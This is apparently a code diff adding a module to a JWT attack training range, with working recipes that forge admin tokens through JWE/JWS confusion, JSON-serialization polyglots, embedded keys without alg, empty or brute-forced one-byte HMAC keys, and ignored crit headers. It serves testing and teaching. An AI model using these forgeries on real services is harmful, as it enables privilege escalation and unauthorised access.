@@ -1,0 +1,169 @@
+import { CompactEncrypt, importJWK } from "jose";
+import {
+  base64url,
+  encodeSegment,
+  es256,
+  hs256,
+  splitToken,
+  type Json,
+} from "@/lib/threats/jwt-range/forge";
+import { ATTACKS_ON_LIMITS } from "@/lib/threats/jwt-range/attacks-2026-limits";
+import { EMPTY_KID } from "@/lib/threats/jwt-range/names";
+import {
+  asAdmin,
+  forge,
+  genuine,
+  type Attack,
+  type RangeMaterial,
+} from "@/lib/threats/jwt-range/recipe";
+
+/**
+ * The classes RFC 8725bis and the JWT CVEs of 2025–26 name, one recipe each (two where the class
+ * has two faces): here the format and key confusions, in ./attacks-2026-limits.ts what a verifier
+ * must bound or hold to one spelling.
+ */
+
+const utf8 = new TextEncoder();
+
+function randomBytes(length: number): Uint8Array {
+  return crypto.getRandomValues(new Uint8Array(length));
+}
+
+/** `plaintext` encrypted to the range's published encryption key (anyone can). */
+async function encryptToRange(m: RangeMaterial, plaintext: string, header: Json): Promise<string> {
+  const key = await importJWK({ ...m.encryptionJwk, alg: "ECDH-ES+A256KW" }, "ECDH-ES+A256KW");
+  return new CompactEncrypt(utf8.encode(plaintext))
+    .setProtectedHeader({ alg: "ECDH-ES+A256KW", enc: "A256GCM", ...header })
+    .encrypt(key);
+}
+
+/** A genuine token with its payload swapped, the signature kept (what a polyglot hides). */
+async function polyglotParts(m: RangeMaterial) {
+  const token = await m.issue("fresh");
+  const [header = "", payload = "", signature = ""] = token.split(".");
+  const forged = encodeSegment(asAdmin(splitToken(token)!.payload));
+  // The JSON member's name is a compact token's look-alike: header, forged payload, empty.
+  return { lookalike: `${header}.${forged}.`, header, payload, signature };
+}
+
+const JWS_JWE: Attack[] = [
+  {
+    id: "jwe_bare_claims",
+    title: "A JWE where a JWS is expected",
+    how: "Admin claims, signed by no one, encrypted to the range's published encryption key: five segments instead of three.",
+    harm: "accepted",
+    exploits: "trust_decryption",
+    build: async (m) => {
+      const { header, payload } = await genuine(m);
+      const token = await encryptToRange(m, JSON.stringify(asAdmin(payload)), { typ: header.typ });
+      return { token, target: "access" };
+    },
+  },
+  {
+    id: "jwe_attacker_jws",
+    title: "A JWE around the attacker's own JWS",
+    how: "An admin token signed with the attacker's own key, then encrypted to the range's public encryption key (cty: JWT): the outside decrypts, the inside is nobody's.",
+    harm: "accepted",
+    exploits: "trust_decryption",
+    build: async (m) => {
+      const { header, payload } = await genuine(m);
+      const innerHeader = { alg: "ES256", typ: header.typ, kid: m.attacker.privateJwk.kid };
+      const inner = await forge(innerHeader, asAdmin(payload), (input) =>
+        es256(input, m.attacker.privateJwk),
+      );
+      return { token: await encryptToRange(m, inner, { cty: "JWT" }), target: "access" };
+    },
+  },
+];
+
+const SERIALIZATION: Attack[] = [
+  {
+    id: "json_flattened",
+    title: "JSON serialization (flattened), a polyglot",
+    how: 'A genuine token rewritten as flattened JSON {"protected", "payload", "signature"}, plus one member whose name looks like a compact token with an admin payload.',
+    harm: "accepted",
+    exploits: "accept_json",
+    build: async (m) => {
+      const { lookalike, header, payload, signature } = await polyglotParts(m);
+      const token = JSON.stringify({ [lookalike]: "", protected: header, payload, signature });
+      return { token, target: "access" };
+    },
+  },
+  {
+    id: "json_general",
+    title: "JSON serialization (general), a polyglot",
+    how: 'The same in the general form: {"payload", "signatures": [{"protected", "signature"}]}, with the compact look-alike carrying the admin payload.',
+    harm: "accepted",
+    exploits: "accept_json",
+    build: async (m) => {
+      const { lookalike, header, payload, signature } = await polyglotParts(m);
+      const signatures = [{ protected: header, signature }];
+      return { token: JSON.stringify({ [lookalike]: "", payload, signatures }), target: "access" };
+    },
+  },
+];
+
+const KEYS: Attack[] = [
+  {
+    id: "jwk_no_alg",
+    title: "Embedded jwk, no alg anywhere",
+    how: 'No alg in the header; the header\'s jwk is a secret key of the attacker\'s own ({"kty": "oct"}, no alg either), and the token is an HMAC under it.',
+    harm: "accepted",
+    exploits: "jwk_without_alg",
+    build: async (m) => {
+      const { header, payload } = await genuine(m);
+      const secret = randomBytes(32);
+      const forgedHeader = { typ: header.typ, jwk: { kty: "oct", k: base64url(secret) } };
+      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, secret));
+      return { token, target: "access" };
+    },
+  },
+  {
+    id: "hmac_empty_key",
+    title: "An empty HMAC key",
+    how: 'HS256 under the naive server\'s key read from an environment variable nobody set: the key is "" — and the attacker knows "" too.',
+    harm: "accepted",
+    exploits: "short_hmac_key",
+    build: async (m) => {
+      const { header, payload } = await genuine(m);
+      const forgedHeader = { alg: "HS256", typ: header.typ, kid: EMPTY_KID };
+      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
+      return { token, target: "access" };
+    },
+  },
+  {
+    id: "hmac_one_byte_key",
+    title: "A one-byte HMAC key",
+    how: "One genuine token signed with a one-byte key: all 256 bytes are tried in the browser, the one whose HMAC matches signs an admin token.",
+    harm: "accepted",
+    exploits: "short_hmac_key",
+    build: async (m) => {
+      const token = await m.issue("short_key");
+      const [h = "", p = "", s = ""] = token.split(".");
+      const key = Array.from({ length: 256 }, (_, b) => Uint8Array.of(b)).find(
+        (candidate) => hs256(`${h}.${p}`, candidate) === s,
+      );
+      if (key === undefined) throw new Error("No one-byte key signs this token.");
+      const parts = splitToken(token)!;
+      const forged = await forge(parts.header, asAdmin(parts.payload), (input) =>
+        hs256(input, key),
+      );
+      return { token: forged, target: "access" };
+    },
+  },
+  {
+    id: "crit_unknown",
+    title: "An unknown crit extension",
+    how: 'A genuine token its issuer marked "internal_only", and listed that in crit: a verifier that does not understand it must refuse the token. Replayed at a public one.',
+    harm: "accepted",
+    exploits: "ignore_crit",
+    build: async (m) => ({ token: await m.issue("crit"), target: "access" }),
+  },
+];
+
+export const ATTACKS_2026: readonly Attack[] = [
+  ...JWS_JWE,
+  ...SERIALIZATION,
+  ...KEYS,
+  ...ATTACKS_ON_LIMITS,
+];
